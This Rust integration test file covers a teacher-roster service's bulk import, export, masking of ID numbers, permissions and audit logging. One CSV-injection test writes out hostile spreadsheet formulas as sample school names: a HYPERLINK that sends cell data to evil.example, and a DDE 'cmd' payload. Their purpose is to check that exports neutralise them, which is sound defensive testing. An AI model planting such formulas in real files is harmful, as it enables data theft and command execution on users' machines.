//! Bulk import over real gRPC, on SQLite and (with DATABASE_URL) PostgreSQL.

mod support;

use std::collections::{HashMap, HashSet};

use support::{TestApp, all_teachers, default_options, import};
use tica_auth::Role;
use tica_client::files::Kind;
use tica_proto::tica::common::v1 as common;
use tica_proto::tica::roster::v1 as pb;
use tica_sample::{SampleRoster, SampleSpec, teachers_csv};
use tica_storage::Backend;

tica_testkit::backend_tests!(
    a_province_of_twenty_thousand_teachers_imports_from_csv_and_reads_back_page_by_page,
    a_province_of_twenty_thousand_teachers_imports_from_xlsx_and_reads_back_page_by_page,
    a_file_with_three_bad_rows_among_a_thousand_imports_nothing_and_reports_exactly_those_rows,
    a_gbk_encoded_file_is_refused_with_a_message_that_says_so_and_imports_when_declared,
    valid_rows_mode_imports_the_good_rows_and_reports_the_bad,
    teachers_already_registered_are_reported_and_nothing_is_stored,
    updating_from_a_file_moves_a_teacher_and_keeps_their_history,
    a_dry_run_reports_but_stores_nothing,
    a_file_missing_required_columns_is_refused_before_any_row,
    teacher_numbers_are_assigned_when_the_file_has_none,
    an_export_with_full_id_numbers_imports_again_elsewhere,
    full_identities_are_listed_to_offices_only_inside_their_tree_and_every_page_is_audited,
    a_school_name_that_starts_a_formula_is_exported_as_text_and_imports_back_unchanged,
);

fn province_sample() -> SampleRoster {
    SampleRoster::generate(SampleSpec::province())
}

async fn check_read_back(app: &TestApp, sample: &SampleRoster) {
    let mut province = app.office("340000");
    let (teachers, pages) = all_teachers(&mut province, "", 1000).await;
    assert_eq!(teachers.len(), 20_000);
    assert_eq!(pages, 20, "1000 per page");
    let read: HashSet<&str> = teachers.iter().map(|t| t.name.as_str()).collect();
    let expected: HashSet<String> = sample
        .teachers
        .iter()
        .map(|t| format!("teachers/{}", t.number))
        .collect();
    assert_eq!(read.len(), 20_000, "no teacher appears on two pages");
    assert!(expected.iter().all(|n| read.contains(n.as_str())));
    assert!(
        teachers.iter().all(|t| t.id_number.contains("**********")),
        "ID numbers are masked on the way out"
    );
    // A county reads just its own, also page by page.
    let county = sample.counties()[0].to_string();
    let mut office = app.office(&county);
    let (mine, _) = all_teachers(&mut office, "", 333).await;
    let expected_here = sample
        .teachers
        .iter()
        .filter(|t| t.school.starts_with(&county))
        .count();
    assert_eq!(mine.len(), expected_here);
    assert!(
        mine.iter()
            .all(|t| t.jurisdiction == format!("jurisdictions/{county}"))
    );
    // Schools too.
    let schools = province
        .list_schools(pb::ListSchoolsRequest {
            page_size: 1000,
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(schools.total_size, 300);
    assert_eq!(
        schools
            .schools
            .iter()
            .map(|s| s.registered_teacher_count as usize)
            .sum::<usize>(),
        20_000
    );
}

async fn a_province_of_twenty_thousand_teachers_imports_from_csv_and_reads_back_page_by_page(
    backend: Backend,
) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let sample = province_sample();
    app.setup_sample(&sample).await;
    let mut province = app.office("340000");
    let result = import(
        &mut province,
        Kind::Teachers,
        "",
        sample.teachers_csv(),
        default_options(),
    )
    .await;
    assert!(
        result.errors.is_empty(),
        "{:?}",
        &result.errors[..result.errors.len().min(5)]
    );
    assert_eq!(result.report.rows_total, 20_000);
    assert_eq!(result.report.rows_created, 20_000);
    assert!(result.report.committed);
    assert_eq!(result.report.file_sha256.len(), 64);
    check_read_back(&app, &sample).await;
}

async fn a_province_of_twenty_thousand_teachers_imports_from_xlsx_and_reads_back_page_by_page(
    backend: Backend,
) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let sample = province_sample();
    app.setup_sample(&sample).await;
    let mut province = app.office("340000");
    let result = import(
        &mut province,
        Kind::Teachers,
        "",
        sample.teachers_xlsx(),
        default_options(),
    )
    .await;
    assert!(
        result.errors.is_empty(),
        "{:?}",
        &result.errors[..result.errors.len().min(5)]
    );
    assert_eq!(result.report.rows_created, 20_000);
    check_read_back(&app, &sample).await;
}

async fn a_file_with_three_bad_rows_among_a_thousand_imports_nothing_and_reports_exactly_those_rows(
    backend: Backend,
) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let sample = SampleRoster::generate(SampleSpec {
        teachers: 1000,
        ..SampleSpec::province()
    });
    app.setup_sample(&sample).await;
    let mut rows = sample.teacher_rows();
    // Line numbers: the header is line 1, so row i is on line i + 2.
    // 1. A wrong check character.
    let id = &mut rows[99][2];
    let last = id.pop().unwrap();
    id.push(if last == '1' { '2' } else { '1' });
    // 2. A school nobody registered.
    rows[499][5] = "9999999999".into();
    // 3. The same ID number as an earlier row.
    // ID number, sex and birth date travel together.
    let copied: Vec<String> = rows[10][2..=4].to_vec();
    rows[899][2..=4].clone_from_slice(&copied);
    let mut province = app.office("340000");
    let result = import(
        &mut province,
        Kind::Teachers,
        "",
        teachers_csv(&rows),
        default_options(),
    )
    .await;
    let reported: Vec<(i64, &str, i32)> = result
        .errors
        .iter()
        .map(|e| (e.line, e.column.as_str(), e.reason))
        .collect();
    assert_eq!(
        reported,
        vec![
            (
                101,
                "身份证号",
                common::RowErrorReason::BadIdCheckDigit as i32
            ),
            (
                501,
                "学校标识码",
                common::RowErrorReason::UnknownSchool as i32
            ),
            (
                901,
                "身份证号",
                common::RowErrorReason::DuplicateInFile as i32
            ),
        ]
    );
    assert!(
        result.errors[2].message.contains("12"),
        "names the first line: {}",
        result.errors[2].message
    );
    assert_eq!(result.report.rows_total, 1000);
    assert_eq!(result.report.rows_rejected, 3);
    assert_eq!(result.report.rows_created, 0);
    assert!(!result.report.committed);
    let (teachers, _) = all_teachers(&mut province, "", 100).await;
    assert!(
        teachers.is_empty(),
        "an all-or-nothing file with bad rows stores nothing"
    );
    for e in &result.errors {
        assert!(
            !e.message.contains(&rows[10][2]),
            "messages never carry a full ID number"
        );
    }
}

async fn a_gbk_encoded_file_is_refused_with_a_message_that_says_so_and_imports_when_declared(
    backend: Backend,
) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let sample = SampleRoster::generate(SampleSpec {
        teachers: 50,
        ..SampleSpec::province()
    });
    app.setup_sample(&sample).await;
    let utf8 = String::from_utf8(sample.teachers_csv()[3..].to_vec()).unwrap();
    let (gbk, _, unmappable) = encoding_rs::GB18030.encode(&utf8);
    assert!(!unmappable);
    let mut province = app.office("340000");
    let result = import(
        &mut province,
        Kind::Teachers,
        "",
        gbk.to_vec(),
        default_options(),
    )
    .await;
    assert!(
        result.report.file_error.contains("GBK"),
        "{}",
        result.report.file_error
    );
    assert!(!result.report.committed);
    let declared = common::ImportOptions {
        encoding: common::TextEncoding::Gb18030 as i32,
        ..default_options()
    };
    let result = import(&mut province, Kind::Teachers, "", gbk.to_vec(), declared).await;
    assert!(result.errors.is_empty(), "{:?}", result.errors);
    assert_eq!(result.report.rows_created, 50);
    let (teachers, _) = all_teachers(&mut province, "", 100).await;
    let names: HashSet<String> = teachers.iter().map(|t| t.display_name.clone()).collect();
    assert!(
        sample.teachers.iter().all(|t| names.contains(&t.name)),
        "names survive the transcoding"
    );
}

async fn valid_rows_mode_imports_the_good_rows_and_reports_the_bad(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let sample = SampleRoster::generate(SampleSpec {
        teachers: 100,
        ..SampleSpec::province()
    });
    app.setup_sample(&sample).await;
    let mut rows = sample.teacher_rows();
    rows[5][1].clear(); // no name
    rows[6][6] = "大学".into(); // no such stage
    let options = common::ImportOptions {
        mode: common::ImportMode::ValidRows as i32,
        ..default_options()
    };
    let mut province = app.office("340000");
    let result = import(
        &mut province,
        Kind::Teachers,
        "",
        teachers_csv(&rows),
        options,
    )
    .await;
    assert_eq!(result.report.rows_created, 98);
    assert_eq!(result.report.rows_rejected, 2);
    assert!(result.report.committed);
    assert_eq!(
        result.errors[0].reason,
        common::RowErrorReason::MissingField as i32
    );
    assert_eq!(
        result.errors[1].reason,
        common::RowErrorReason::InvalidValue as i32
    );
    let (teachers, _) = all_teachers(&mut province, "", 1000).await;
    assert_eq!(teachers.len(), 98);
}

async fn teachers_already_registered_are_reported_and_nothing_is_stored(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let sample = SampleRoster::generate(SampleSpec {
        teachers: 200,
        ..SampleSpec::province()
    });
    app.setup_sample(&sample).await;
    let rows = sample.teacher_rows();
    let mut province = app.office("340000");
    let first = import(
        &mut province,
        Kind::Teachers,
        "",
        teachers_csv(&rows[..100]),
        default_options(),
    )
    .await;
    assert_eq!(first.report.rows_created, 100);
    // Rows 50..150: half of them are already registered (under other numbers, to reach the ID check).
    let mut again: Vec<Vec<String>> = rows[50..150].to_vec();
    for row in &mut again[..50] {
        row[0].clear();
    }
    let result = import(
        &mut province,
        Kind::Teachers,
        "",
        teachers_csv(&again),
        default_options(),
    )
    .await;
    assert!(!result.report.committed);
    assert_eq!(result.report.rows_rejected, 50);
    assert!(
        result
            .errors
            .iter()
            .all(|e| e.reason == common::RowErrorReason::AlreadyExists as i32)
    );
    assert_eq!(
        result.errors.iter().map(|e| e.line).collect::<Vec<_>>(),
        (2..52).collect::<Vec<_>>()
    );
    let (teachers, _) = all_teachers(&mut province, "", 1000).await;
    assert_eq!(teachers.len(), 100, "the clean half was not stored either");
}

async fn updating_from_a_file_moves_a_teacher_and_keeps_their_history(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let sample = SampleRoster::generate(SampleSpec {
        teachers: 20,
        ..SampleSpec::province()
    });
    app.setup_sample(&sample).await;
    let mut rows = sample.teacher_rows();
    let mut province = app.office("340000");
    import(
        &mut province,
        Kind::Teachers,
        "",
        teachers_csv(&rows),
        default_options(),
    )
    .await;
    let old_school = rows[3][5].clone();
    rows[3][5] = sample.schools[7].code.clone();
    rows[3][7] = "数学".into();
    let options = common::ImportOptions {
        existing: common::ExistingRecords::Update as i32,
        ..default_options()
    };
    let result = import(
        &mut province,
        Kind::Teachers,
        "",
        teachers_csv(&rows),
        options,
    )
    .await;
    assert!(result.errors.is_empty(), "{:?}", result.errors);
    assert_eq!(result.report.rows_updated, 20);
    let teacher = province
        .get_teacher(pb::GetTeacherRequest {
            name: format!("teachers/{}", rows[3][0]),
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(
        teacher.school,
        format!("schools/{}", sample.schools[7].code)
    );
    assert_eq!(teacher.subject, "数学");
    assert_eq!(teacher.assignments.len(), 2);
    assert_eq!(
        teacher.assignments[0].school,
        format!("schools/{old_school}")
    );
    assert!(teacher.assignments[0].end_date.is_some());
}

async fn a_dry_run_reports_but_stores_nothing(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let sample = SampleRoster::generate(SampleSpec {
        teachers: 100,
        ..SampleSpec::province()
    });
    app.setup_sample(&sample).await;
    let options = common::ImportOptions {
        validate_only: true,
        ..default_options()
    };
    let mut province = app.office("340000");
    let result = import(
        &mut province,
        Kind::Teachers,
        "",
        sample.teachers_csv(),
        options,
    )
    .await;
    assert!(result.errors.is_empty());
    assert_eq!(result.report.rows_total, 100);
    assert!(!result.report.committed);
    assert!(all_teachers(&mut province, "", 10).await.0.is_empty());
}

async fn a_file_missing_required_columns_is_refused_before_any_row(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let mut province = app.office("340000");
    let csv = "姓名,学段\n张三,小学\n".as_bytes().to_vec();
    let result = import(&mut province, Kind::Teachers, "", csv, default_options()).await;
    assert!(
        result.report.file_error.contains("身份证号"),
        "{}",
        result.report.file_error
    );
    assert!(
        result.report.file_error.contains("id_number"),
        "{}",
        result.report.file_error
    );
    assert!(result.errors.is_empty());
    let broken = b"PK\x03\x04 this is not a workbook".to_vec();
    let result = import(&mut province, Kind::Teachers, "", broken, default_options()).await;
    assert!(!result.report.file_error.is_empty());
}

async fn teacher_numbers_are_assigned_when_the_file_has_none(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let sample = SampleRoster::generate(SampleSpec {
        teachers: 30,
        with_numbers: false,
        ..SampleSpec::province()
    });
    app.setup_sample(&sample).await;
    let mut province = app.office("340000");
    let result = import(
        &mut province,
        Kind::Teachers,
        "",
        sample.teachers_csv(),
        default_options(),
    )
    .await;
    assert_eq!(result.report.rows_created, 30);
    let (teachers, _) = all_teachers(&mut province, "", 100).await;
    for t in &teachers {
        let number = t.name.strip_prefix("teachers/").unwrap();
        let school = t.school.strip_prefix("schools/").unwrap();
        assert!(
            number.starts_with(school) && number.len() == school.len() + 4,
            "{number} is the school code plus a sequence"
        );
    }
    // A second file for the same schools continues the sequence.
    let more = SampleRoster::generate(SampleSpec {
        teachers: 30,
        with_numbers: false,
        seed: 9,
        ..SampleSpec::province()
    });
    let result = import(
        &mut province,
        Kind::Teachers,
        "",
        more.teachers_csv(),
        default_options(),
    )
    .await;
    assert!(result.errors.is_empty(), "{:?}", result.errors);
    assert_eq!(all_teachers(&mut province, "", 100).await.0.len(), 60);
}

async fn an_export_with_full_id_numbers_imports_again_elsewhere(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let sample = SampleRoster::generate(SampleSpec {
        teachers: 300,
        ..SampleSpec::province()
    });
    app.setup_sample(&sample).await;
    let mut province = app.office("340000");
    import(
        &mut province,
        Kind::Teachers,
        "",
        sample.teachers_csv(),
        default_options(),
    )
    .await;
    let masked = tica_client::files::export(
        &mut province,
        Kind::Teachers,
        "",
        common::FileFormat::Csv,
        false,
    )
    .await
    .unwrap();
    assert_eq!(masked.metadata.row_count, 300);
    assert!(masked.metadata.file_name.ends_with(".csv"));
    let text = String::from_utf8(masked.bytes.clone()).unwrap();
    assert!(
        !text.contains(sample.teachers[0].id.as_str()),
        "a default export masks ID numbers"
    );
    let full = tica_client::files::export(
        &mut province,
        Kind::Teachers,
        "",
        common::FileFormat::Xlsx,
        true,
    )
    .await
    .unwrap();
    assert!(full.bytes.starts_with(b"PK"));
    // A school administrator may not take full ID numbers out.
    let school = &sample.schools[0];
    let mut admin = app.client(
        Role::SchoolAdmin,
        &school.county.to_string(),
        Some(&school.code),
    );
    let denied = tica_client::files::export(
        &mut admin,
        Kind::Teachers,
        "",
        common::FileFormat::Csv,
        true,
    )
    .await
    .unwrap_err();
    assert_eq!(denied.code(), tonic::Code::PermissionDenied);
    // The workbook re-imports into another installation as it is.
    let Some(other) = TestApp::spawn(backend).await else {
        return;
    };
    other.setup_sample(&sample).await;
    let mut there = other.office("340000");
    let result = import(
        &mut there,
        Kind::Teachers,
        "",
        full.bytes,
        default_options(),
    )
    .await;
    assert!(
        result.errors.is_empty(),
        "{:?}",
        &result.errors[..result.errors.len().min(3)]
    );
    assert_eq!(result.report.rows_created, 300);
    // And the full export was audited.
    let events = province
        .list_audit_events(pb::ListAuditEventsRequest {
            resource: "jurisdictions/340000".into(),
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner()
        .audit_events;
    assert!(events.iter().any(|e| e.method.ends_with("/ExportTeachers")));
}

/// OWASP CSV injection: a name typed as `=HYPERLINK(…)` must open in a spreadsheet as text.
async fn a_school_name_that_starts_a_formula_is_exported_as_text_and_imports_back_unchanged(
    backend: Backend,
) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let sample = SampleRoster::generate(SampleSpec {
        teachers: 10,
        ..SampleSpec::province()
    });
    app.setup_sample(&sample).await;
    let county = sample.counties()[0].to_string();
    let mut office = app.office(&county);
    let hostile = [
        (
            "9901",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")",
        ),
        ("9902", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("9903", "-2+3"),
        ("9904", "+86 第一小学"),
    ];
    let hostile = hostile.map(|(code, name)| (format!("{county}{code}"), name));
    let mut csv = "学校标识码,学校名称,所属区县代码,办学类型\n".to_owned();
    for (code, name) in &hostile {
        csv.push_str(&format!(
            "{code},\"{}\",{county},小学\n",
            name.replace('"', "\"\"")
        ));
    }
    let result = import(
        &mut office,
        Kind::Schools,
        "",
        csv.into_bytes(),
        default_options(),
    )
    .await;
    assert!(result.report.committed, "{:?}", result.errors);
    let exported = tica_client::files::export(
        &mut office,
        Kind::Schools,
        "",
        common::FileFormat::Csv,
        false,
    )
    .await
    .unwrap();
    let text = String::from_utf8(exported.bytes.clone()).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let mut names = Vec::new();
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a spreadsheet would run {cell:?}"
            );
        }
        if hostile.iter().any(|(code, _)| code == &record[0]) {
            names.push(record[1].to_owned());
        }
    }
    let expected: Vec<String> = hostile.iter().map(|(_, name)| format!("'{name}")).collect();
    assert_eq!(names, expected);
    // The exported file imports back (updating) to exactly the names typed.
    let result = import(
        &mut office,
        Kind::Schools,
        "",
        exported.bytes,
        common::ImportOptions {
            existing: common::ExistingRecords::Update as i32,
            ..default_options()
        },
    )
    .await;
    assert!(result.report.committed, "{:?}", result.errors);
    for (code, name) in &hostile {
        let school = office
            .get_school(pb::GetSchoolRequest {
                name: format!("schools/{code}"),
            })
            .await
            .unwrap()
            .into_inner();
        assert_eq!(school.display_name, *name);
    }
}

/// ListTeacherIdentities is the typed way full ID numbers leave the roster (the certificate
/// service keys the teachers' search with them): an office reads its own subtree page by page,
/// each page is audited with its row count and never the numbers; anyone else is refused.
async fn full_identities_are_listed_to_offices_only_inside_their_tree_and_every_page_is_audited(
    backend: Backend,
) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let sample = SampleRoster::generate(SampleSpec {
        teachers: 120,
        ..SampleSpec::province()
    });
    app.setup_sample(&sample).await;
    let mut province = app.office("340000");
    import(
        &mut province,
        Kind::Teachers,
        "",
        sample.teachers_csv(),
        default_options(),
    )
    .await;
    let school = &sample.schools[0];
    let county = school.county.to_string();
    let in_county: HashMap<String, &tica_sample::SampleTeacher> = sample
        .teachers
        .iter()
        .filter(|t| {
            sample
                .schools
                .iter()
                .any(|s| s.code == t.school && s.county == school.county)
        })
        .map(|t| (format!("teachers/{}", t.number), t))
        .collect();
    let mut office = app.office(&county);
    let mut listed = Vec::new();
    let mut page_token = String::new();
    let mut pages = 0;
    loop {
        let page = office
            .list_teacher_identities(pb::ListTeacherIdentitiesRequest {
                parent: format!("jurisdictions/{county}"),
                page_size: 7,
                page_token,
            })
            .await
            .unwrap()
            .into_inner();
        pages += 1;
        listed.extend(page.identities);
        if page.next_page_token.is_empty() {
            break;
        }
        page_token = page.next_page_token;
    }
    assert_eq!(
        listed.len(),
        in_county.len(),
        "every teacher of the county, once"
    );
    for identity in &listed {
        let teacher = in_county[&identity.teacher];
        assert_eq!(identity.id_number, teacher.id.as_str(), "in full");
        assert_eq!(identity.display_name, teacher.name);
    }
    // Each page is in the audit trail, with its size and without a single number.
    let events: Vec<_> = office
        .list_audit_events(pb::ListAuditEventsRequest {
            resource: format!("jurisdictions/{county}"),
            page_size: 1000,
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner()
        .audit_events
        .into_iter()
        .filter(|e| e.method.ends_with("/ListTeacherIdentities"))
        .collect();
    assert_eq!(events.len(), pages);
    for event in &events {
        assert!(
            listed
                .iter()
                .all(|identity| !event.change_json.contains(&identity.id_number)),
            "{}",
            event.change_json
        );
    }

    // The attackers: a school administrator of that county, a teacher, a training provider,
    // and the office of another county naming this one.
    let refused = |status: tonic::Status| status.code();
    let mut admin = app.client(Role::SchoolAdmin, &county, Some(&school.code));
    let mut teacher = app.client(Role::Teacher, &county, Some(&school.code));
    let mut provider = app.client(Role::TrainingProvider, &county, None);
    for (who, client) in [
        ("school admin", &mut admin),
        ("teacher", &mut teacher),
        ("provider", &mut provider),
    ] {
        let status = client
            .list_teacher_identities(pb::ListTeacherIdentitiesRequest::default())
            .await
            .unwrap_err();
        assert_eq!(refused(status), tonic::Code::PermissionDenied, "{who}");
    }
    let other = sample
        .schools
        .iter()
        .map(|s| s.county)
        .find(|c| *c != school.county)
        .expect("a second county");
    let mut elsewhere = app.office(&other.to_string());
    let status = elsewhere
        .list_teacher_identities(pb::ListTeacherIdentitiesRequest {
            parent: format!("jurisdictions/{county}"),
            ..Default::default()
        })
        .await
        .unwrap_err();
    assert_eq!(status.code(), tonic::Code::PermissionDenied);
    assert!(
        !status.message().contains(&county),
        "the refusal names only the caller's own scope: {}",
        status.message()
    );
}
